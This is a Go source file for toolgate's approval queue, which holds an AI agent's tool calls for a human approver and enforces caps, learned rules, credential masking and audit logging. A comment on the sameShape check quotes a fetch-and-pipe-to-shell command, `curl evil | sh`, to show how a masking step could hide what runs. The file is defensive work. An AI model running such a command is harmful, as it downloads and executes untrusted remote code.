// Package approvals is a central toolgate's approval queue: an unattended
// check's question that its policy queues (unattended.on_ask: approve)
// becomes a pending approval in the store, waits for an approver's answer,
// and comes back as Allow or Deny with who answered. Approvers list,
// answer and teach rules through the same Queue, whichever front end they
// use (the gRPC ApprovalService, the CLI, the web page).
//
// The queue holds nothing of its own: the store is the state, so an
// answer given on one central replica releases the check waiting on
// another, and a restart loses nothing pending.
package approvals

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"strings"
	"sync"
	"sync/atomic"
	"time"
	"unicode/utf8"

	"go.uber.org/zap"

	"github.com/toolgate/toolgate/approvals/store"
	"github.com/toolgate/toolgate/engine"
	"github.com/toolgate/toolgate/redact"
)

// Notifier announces a new pending approval (a webhook). Notify must not
// block: the check is waiting.
type Notifier interface {
	Notify(p store.Pending)
}

// Options tunes a Queue; the zero value takes the defaults.
type Options struct {
	// Notifier announces each new pending approval; nil for none.
	Notifier Notifier
	// RuleTTL is how long a learned rule lives when the approver does not
	// say (1h); MaxRuleTTL is the most an approver may give (7 days).
	RuleTTL, MaxRuleTTL time.Duration
	// Origin names who asked, as the server authenticated them (a local
	// server's or a client's token name, else its address), from the
	// check's context: the caps count by it, and a learned rule is
	// scoped to it. Host is what the asker says it is (a local server's
	// host name), shown to approvers. nil gives "".
	Origin, Host func(ctx context.Context) string
	// Now is the clock (tests); time.Now when nil.
	Now func() time.Time
	// MaxPending caps the approvals pending in the store, and
	// MaxPendingPerOrigin those from one origin (a local server's host, a
	// client): a question past either is denied rather than queued, so
	// that no client can fill the store or the approvers' list. Defaults
	// 10000 and 200.
	MaxPending, MaxPendingPerOrigin int
	// Log receives one line per queued question, answer and learned rule:
	// the approvals' audit trail. Nil logs nothing.
	Log *zap.Logger
}

// Defaults of Options.
const (
	DefaultRuleTTL             = time.Hour
	MaxRuleTTL                 = 7 * 24 * time.Hour
	DefaultMaxPending          = 10000
	DefaultMaxPendingPerOrigin = 200
	// callMargin is kept of a call's own deadline to answer it before
	// the caller gives up.
	callMargin = time.Second
)

// Queue is the approval queue over a store. It is safe for concurrent use.
type Queue struct {
	st   store.Store
	opts Options
	// Counted on this replica: what its waiting checks saw.
	queued, learned, allowed, denied, timedOut, callDeadline, failed, full atomic.Int64
	// audit is the server's audit log, once it has one (SetAudit).
	audit atomic.Pointer[zap.Logger]
	// waiters counts the checks waiting on each approval here.
	waiters waiters
	// draining is closed by Drain: every wait ends, unanswered.
	draining  chan struct{}
	drainOnce sync.Once
}

// Drain ends every wait here, now and later, with
// engine.ErrApprovalInterrupted: the server is shutting down, and its
// callers ask again elsewhere, where the questions are still queued.
func (q *Queue) Drain() { q.drainOnce.Do(func() { close(q.draining) }) }

// maxWaiters caps the checks of this replica that wait on one approval:
// each holds a goroutine, a timer and a subscription for as long as the
// approval may wait, and the same request retried needs one or two.
const maxWaiters = 16

type waiters struct {
	mu sync.Mutex
	n  map[string]int
}

func (w *waiters) add(id string) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.n == nil {
		w.n = map[string]int{}
	}
	if w.n[id] >= maxWaiters {
		return false
	}
	w.n[id]++
	return true
}

func (w *waiters) done(id string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.n[id]--; w.n[id] <= 0 {
		delete(w.n, id)
	}
}

// SetAudit sends the queue's events (questions queued, answers, rules
// learned and deleted, expiries) to the server's audit log as well as to
// its log: who allowed what is part of the audit trail. nil stops it.
func (q *Queue) SetAudit(l *zap.Logger) { q.audit.Store(l) }

// event records one of the queue's events.
func (q *Queue) event(msg string, fields ...zap.Field) {
	q.opts.Log.Info(msg, fields...)
	if a := q.audit.Load(); a != nil {
		a.Info(msg, fields...)
	}
}

// Stats are a queue's counters since it started, on this replica.
type Stats struct {
	// Queued questions; Learned ones a learned rule allowed at once.
	Queued, Learned int64
	// Outcomes of the checks that waited here: an approver's allow or
	// deny, the approval's deadline, the call's own deadline, a failure,
	// a queue at its cap.
	Allowed, Denied, TimedOut, CallDeadline, Failed, Full int64
}

// Stats returns the queue's counters.
func (q *Queue) Stats() Stats {
	return Stats{Queued: q.queued.Load(), Learned: q.learned.Load(), Allowed: q.allowed.Load(), Denied: q.denied.Load(),
		TimedOut: q.timedOut.Load(), CallDeadline: q.callDeadline.Load(), Failed: q.failed.Load(), Full: q.full.Load()}
}

// Pending counts the approvals waiting for an answer: a count, not a
// read of the rows (a scrape must not load what approvers are shown).
func (q *Queue) Pending(ctx context.Context) (int, error) {
	total, _, err := q.st.CountPending(ctx, "")
	return total, err
}

// New returns a queue over st.
func New(st store.Store, opts Options) *Queue {
	if opts.RuleTTL <= 0 {
		opts.RuleTTL = DefaultRuleTTL
	}
	if opts.MaxRuleTTL <= 0 {
		opts.MaxRuleTTL = MaxRuleTTL
	}
	opts.RuleTTL = min(opts.RuleTTL, opts.MaxRuleTTL)
	if opts.Now == nil {
		opts.Now = time.Now
	}
	if opts.Log == nil {
		opts.Log = zap.NewNop()
	}
	if opts.MaxPending <= 0 {
		opts.MaxPending = DefaultMaxPending
	}
	if opts.MaxPendingPerOrigin <= 0 {
		opts.MaxPendingPerOrigin = DefaultMaxPendingPerOrigin
	}
	if opts.Origin == nil {
		opts.Origin = func(context.Context) string { return "" }
	}
	if opts.Host == nil {
		opts.Host = opts.Origin
	}
	return &Queue{st: st, opts: opts, draining: make(chan struct{})}
}

var _ engine.Approver = (*Queue)(nil)

// Approve queues in's question and waits for its answer (engine.Approver).
// A rule learned from an earlier answer that names this very call allows
// it at once. The same call asked again (the same request id, session,
// project, policy and input: a retry after the caller's deadline, or after
// a restart) waits on the approval already queued rather than queue it
// twice.
func (q *Queue) Approve(ctx context.Context, in *engine.ApprovalInput) (engine.ApprovalVerdict, error) {
	v, err := q.approve(ctx, in)
	switch {
	case errors.Is(err, engine.ErrApprovalInterrupted) || err != nil && ctx.Err() != nil:
		// Not the store's failure: a shutdown, or the caller gone.
	case err != nil:
		q.failed.Add(1)
		// The store's words stay in the log: the agent and the records
		// get the fact.
		q.opts.Log.Error("approval queue failed", zap.String("request_id", in.Request.RequestID), zap.Error(err))
		err = errQueueFailed
	case v.Info.How == engine.HowLearned:
		q.learned.Add(1)
	case v.Source != engine.SourceApproval:
		// Counted where they are told apart: wait, the caps.
	case v.Decision == engine.Allow:
		q.allowed.Add(1)
	default:
		q.denied.Add(1)
	}
	return v, err
}

func (q *Queue) approve(ctx context.Context, in *engine.ApprovalInput) (engine.ApprovalVerdict, error) {
	req := in.Request
	call, err := describe(req, in.Kind)
	if err != nil {
		return engine.ApprovalVerdict{}, err
	}
	policy := in.Policy
	if policy == "" {
		policy = engine.DefaultPolicy
	}
	origin := store.Fit(q.opts.Origin(ctx), store.MaxFieldBytes)
	now := q.opts.Now()
	if call.rule != "" {
		r, err := q.st.FindRule(ctx, store.Rule{Text: call.rule, Project: req.WorkingDirectory, Policy: policy, Origin: origin}, now)
		switch {
		case err == nil:
			shown := redact.String(r.Text)
			return engine.ApprovalVerdict{Decision: engine.Allow, Source: engine.SourceApproval,
				Reason: fmt.Sprintf("allowed by the rule %s that %s taught, in force until %s", shown, r.CreatedBy, r.ExpiresAt.UTC().Format(time.RFC3339)),
				Info:   engine.ApprovalInfo{ID: r.PendingID, By: r.CreatedBy, How: engine.HowLearned, At: r.CreatedAt, Rule: shown}}, nil
		case !errors.Is(err, store.ErrNotFound):
			return engine.ApprovalVerdict{}, fmt.Errorf("reading learned rules: %w", err)
		}
	}
	if call.hidden != "" {
		// An approver must see what they allow.
		q.full.Add(1)
		return engine.ApprovalVerdict{Decision: engine.Deny, Source: engine.SourceApprovalUnavailable,
			Reason: "denied: the call cannot be shown to an approver whole (" + call.hidden + "), so it was not queued"}, nil
	}

	p := store.Pending{
		ID:        call.id(policy, req),
		Created:   now,
		Deadline:  now.Add(in.Timeout),
		Request:   call.key(policy, req),
		Display:   call.display,
		Host:      store.Fit(q.opts.Host(ctx), store.MaxFieldBytes),
		Origin:    origin,
		Project:   store.Fit(req.WorkingDirectory, store.MaxFieldBytes),
		Session:   store.Fit(req.SessionID, store.MaxFieldBytes),
		Tool:      store.Fit(req.Tool.Name, store.MaxFieldBytes),
		Policy:    store.Fit(policy, store.MaxFieldBytes),
		Reason:    store.Fit(redact.String(in.Asked.Reason), store.MaxReasonBytes),
		LastWords: store.Fit(lastWords(req), store.MaxReasonBytes),
		OnTimeout: store.OutcomeDeny,
	}
	if in.OnTimeout == engine.Allow {
		p.OnTimeout = store.OutcomeAllow
	}
	// A question queued already (a retry) is joined whatever the caps.
	old, err := q.st.GetPending(ctx, p.ID)
	switch {
	case err == nil:
		return q.join(ctx, p, old)
	case !errors.Is(err, store.ErrNotFound):
		return engine.ApprovalVerdict{}, fmt.Errorf("reading approval %s: %w", p.ID, err)
	}
	switch err := q.st.CreatePendingCapped(ctx, p, q.opts.MaxPending, q.opts.MaxPendingPerOrigin); {
	case err == nil:
		q.queued.Add(1)
		q.event("approval queued", zap.String("approval_id", p.ID), zap.String("tool", p.Tool), zap.String("origin", p.Origin),
			zap.String("host", p.Host), zap.String("project", p.Project), zap.String("session_id", p.Session), zap.Time("deadline", p.Deadline))
		if q.opts.Notifier != nil {
			q.opts.Notifier.Notify(p)
		}
	case errors.Is(err, store.ErrFull):
		q.full.Add(1)
		return engine.ApprovalVerdict{Decision: engine.Deny, Source: engine.SourceApprovalUnavailable,
			Reason: fmt.Sprintf("denied: the approval queue is full (at most %d pending, %d from one asker), so the question was not queued",
				q.opts.MaxPending, q.opts.MaxPendingPerOrigin)}, nil
	case errors.Is(err, store.ErrExists): // queued meanwhile, on this replica or another
		old, err := q.st.GetPending(ctx, p.ID)
		if err != nil {
			return engine.ApprovalVerdict{}, fmt.Errorf("reading approval %s: %w", p.ID, err)
		}
		return q.join(ctx, p, old)
	default:
		return engine.ApprovalVerdict{}, fmt.Errorf("queueing the approval: %w", err)
	}
	return q.wait(ctx, p)
}

// join waits on old, the approval queued already under p's id, if it is
// p's call. A settled one gives its outcome to a retry shortly after it
// was settled (a connection lost with the answer on its way), not to a
// request asked again later: allowed once is once.
func (q *Queue) join(ctx context.Context, p, old store.Pending) (engine.ApprovalVerdict, error) {
	if string(old.Request) != string(p.Request) {
		// The id is a hash of the key: another call under it is a
		// collision or a forgery, never something to join.
		return engine.ApprovalVerdict{}, fmt.Errorf("approval %s is another call's", p.ID)
	}
	if old.Status != store.StatusPending && old.Answer.Outcome == store.OutcomeAllow && q.opts.Now().Sub(old.Answer.At) > replayWindow {
		return engine.ApprovalVerdict{Decision: engine.Deny, Source: engine.SourceApprovalUnavailable,
			Reason: fmt.Sprintf("denied: approval %s allowed this request at %s, once; the same request asked again later is not allowed again (a new request asks anew)",
				old.ID, old.Answer.At.UTC().Format(time.RFC3339))}, nil
	}
	return q.wait(ctx, old)
}

// errQueueFailed is what a check is told when the queue failed.
var errQueueFailed = errors.New("the approvals store failed (the centre's log says why)")

// replayWindow is how long after it was settled an approval's outcome
// is given again to the same request retried.
const replayWindow = 2 * time.Minute

// wait waits for p's answer, or answers Deny before the call's own
// deadline, leaving p pending for a retry.
func (q *Queue) wait(ctx context.Context, p store.Pending) (engine.ApprovalVerdict, error) {
	if !q.waiters.add(p.ID) {
		q.full.Add(1)
		return engine.ApprovalVerdict{Decision: engine.Deny, Source: engine.SourceApprovalUnavailable,
			Reason: fmt.Sprintf("denied: %d checks already wait on approval %s", maxWaiters, p.ID)}, nil
	}
	defer q.waiters.done(p.ID)
	wctx := ctx
	callDeadline, bounded := ctx.Deadline()
	if bounded && callDeadline.Before(p.Deadline) {
		var cancel context.CancelFunc
		wctx, cancel = context.WithDeadline(ctx, callDeadline.Add(-min(callMargin, time.Until(callDeadline)/10)))
		defer cancel()
	}
	wctx, interrupt := context.WithCancelCause(wctx)
	defer interrupt(nil)
	go func() {
		select {
		case <-q.draining:
			interrupt(engine.ErrApprovalInterrupted)
		case <-wctx.Done():
		}
	}()
	a, err := q.st.WaitAnswered(wctx, p.ID)
	if err != nil {
		if errors.Is(context.Cause(wctx), engine.ErrApprovalInterrupted) && ctx.Err() == nil {
			return engine.ApprovalVerdict{}, engine.ErrApprovalInterrupted
		}
		if ctx.Err() == nil && wctx.Err() != nil {
			q.callDeadline.Add(1)
			return engine.ApprovalVerdict{Decision: engine.Deny, Source: engine.SourceApprovalTimeout,
				Reason: fmt.Sprintf("denied: the call's deadline came before an approver answered; approval %s stays pending until %s (the same request retried waits on it; an answer given as a rule lets the same call through next time)",
					p.ID, p.Deadline.UTC().Format(time.RFC3339)),
				Info: engine.ApprovalInfo{ID: p.ID, How: engine.HowTimeout}}, nil
		}
		return engine.ApprovalVerdict{}, fmt.Errorf("waiting for approval %s: %w", p.ID, err)
	}
	if a.Status == store.StatusExpired {
		q.timedOut.Add(1)
	}
	return verdict(p, a), nil
}

// verdict is what a settled approval means for the check.
func verdict(p store.Pending, a store.Answer) engine.ApprovalVerdict {
	info := engine.ApprovalInfo{ID: p.ID, By: a.By, How: string(a.How), At: a.At}
	d := engine.Deny
	if a.Outcome == store.OutcomeAllow {
		d = engine.Allow
	}
	if a.Status == store.StatusExpired {
		info.How = engine.HowTimeout
		return engine.ApprovalVerdict{Decision: d, Source: engine.SourceApprovalTimeout, Info: info,
			Reason: fmt.Sprintf("%s: nobody answered approval %s before its deadline, and the policy's outcome on timeout is %s", pastTense(d), p.ID, a.Outcome)}
	}
	if a.How == store.HowRule {
		info.Rule = RuleOf(p)
	}
	return engine.ApprovalVerdict{Decision: d, Source: engine.SourceApproval, Info: info,
		Reason: fmt.Sprintf("%s by %s (approval %s)", pastTense(d), a.By, p.ID)}
}

func pastTense(d engine.Decision) string {
	if d == engine.Allow {
		return "allowed"
	}
	return "denied"
}

// call is what identifies a call: its learned-rule text, the digest of
// its input, and what an approver is shown of it.
type call struct {
	rule    string // "" when no rule can name the call exactly
	input   string // sha256 of the canonical input
	display string
	// hidden says why the display does not show the call whole; "" when
	// it does.
	hidden string
}

// maxRuleInput is the most of a call's input a learned rule spells out;
// past it the rule names the input's digest.
const maxRuleInput = 1024

// notes are the input fields, by tool kind, that describe a call without
// changing what it does: a learned rule leaves them out, so that the same
// command with another description (which agents write afresh for every
// call) is the same call. Everything else counts, a shell's working
// directory included.
var notes = map[engine.Kind][]string{
	engine.KindShell: {"description", "timeout"},
}

// structure are the characters that change what a shell command does
// around a word: masking a credential must not take one away from what
// an approver sees.
const structure = ";&|$()`<>\n\r"

func describe(req *engine.Request, kind engine.Kind) (call, error) {
	input, err := json.Marshal(req.Tool.Input) // map keys sorted: canonical
	if err != nil {
		return call{}, fmt.Errorf("encoding the call's input: %w", err)
	}
	sum := sha256.Sum256(input)
	c := call{input: hex.EncodeToString(sum[:])}
	raw := spell(req.Tool.Input, input)
	c.display = redact.String(raw)
	switch {
	case len(c.display) > store.MaxDisplayBytes:
		c.hidden = fmt.Sprintf("its input is %d bytes, more than the %d an approver is shown", len(c.display), store.MaxDisplayBytes)
		c.display = ""
	case !sameShape(raw, c.display):
		c.hidden = "masking a credential in it would hide part of the command"
		c.display = ""
	}

	what := req.Tool.Input
	if drop := notes[kind]; len(drop) > 0 {
		what = maps.Clone(what)
		for _, k := range drop {
			delete(what, k)
		}
		if input, err = json.Marshal(what); err != nil {
			return call{}, fmt.Errorf("encoding the call's input: %w", err)
		}
	}
	// A rule is the tool's name and one spelling of the input: a lone
	// command as written, unless it could be read as another spelling
	// (starting with "{" or "sha256:"); else the canonical JSON, which
	// starts with "{"; past maxRuleInput, "sha256:" and its digest. A
	// name with parentheses could be read as another name's rule, and a
	// project the store would cut as another project: no rule names
	// those.
	spelled := spell(what, input)
	if spelled != string(input) && (strings.HasPrefix(spelled, "{") || strings.HasPrefix(spelled, "sha256:")) {
		spelled = string(input)
	}
	if len(spelled) > maxRuleInput || !utf8.ValidString(spelled) {
		sum := sha256.Sum256(input)
		spelled = "sha256:" + hex.EncodeToString(sum[:])
	}
	if !strings.ContainsAny(req.Tool.Name, "()") && len(req.WorkingDirectory) <= store.MaxFieldBytes && len(req.Tool.Name) <= store.MaxFieldBytes {
		c.rule = req.Tool.Name + "(" + spelled + ")"
	}
	return c, nil
}

// sameShape reports whether masking left raw's shape whole: every
// structural character, and every word (a credential is one word, masked
// in place; a mask that swallowed the words after it, as `KEY=x curl
// evil | sh` can become `KEY=[REDACTED]`, hid what runs).
func sameShape(raw, masked string) bool {
	for _, r := range structure {
		if strings.Count(raw, string(r)) != strings.Count(masked, string(r)) {
			return false
		}
	}
	return len(strings.Fields(raw)) == len(strings.Fields(masked))
}

// spell is an input as a rule or a page shows it: a lone command as it
// is, anything else as its canonical JSON.
func spell(in map[string]any, canonical []byte) string {
	if cmd, ok := in["command"].(string); ok && len(in) == 1 {
		return cmd
	}
	return string(canonical)
}

// key is the approval's request: what a retry must match to join it.
func (c call) key(policy string, req *engine.Request) []byte {
	b, _ := json.Marshal(struct {
		RequestID   string `json:"request_id"`
		Session     string `json:"session_id"`
		Project     string `json:"working_directory"`
		Policy      string `json:"policy"`
		Tool        string `json:"tool"`
		InputSHA256 string `json:"input_sha256"`
		Rule        string `json:"rule"`
	}{req.RequestID, req.SessionID, req.WorkingDirectory, policy, req.Tool.Name, c.input, c.rule})
	return b
}

func (c call) id(policy string, req *engine.Request) string {
	sum := sha256.Sum256(c.key(policy, req))
	return "ap-" + hex.EncodeToString(sum[:16])
}

// RuleOf is the rule an allow as a rule of p teaches: the exact call, as
// the rules syntax writes it ("" when no rule can name it), credentials
// masked. Front ends show it to the approver before they answer.
func RuleOf(p store.Pending) string { return redact.String(ruleOf(p)) }

// ShownRule is a learned rule's text as front ends show it: credentials
// masked.
func ShownRule(r store.Rule) string { return redact.String(r.Text) }

// ruleOf is the learned-rule text of a pending approval's call.
func ruleOf(p store.Pending) string {
	var k struct {
		Rule string `json:"rule"`
	}
	_ = json.Unmarshal(p.Request, &k)
	return k.Rule
}

// lastWords is the user's last message in the transcript, redacted.
func lastWords(req *engine.Request) string {
	for i := len(req.Transcript) - 1; i >= 0; i-- {
		if e := req.Transcript[i]; e.Role == engine.RoleUser && strings.TrimSpace(e.Text) != "" {
			return store.Fit(redact.String(e.Text), store.MaxReasonBytes)
		}
	}
	return ""
}
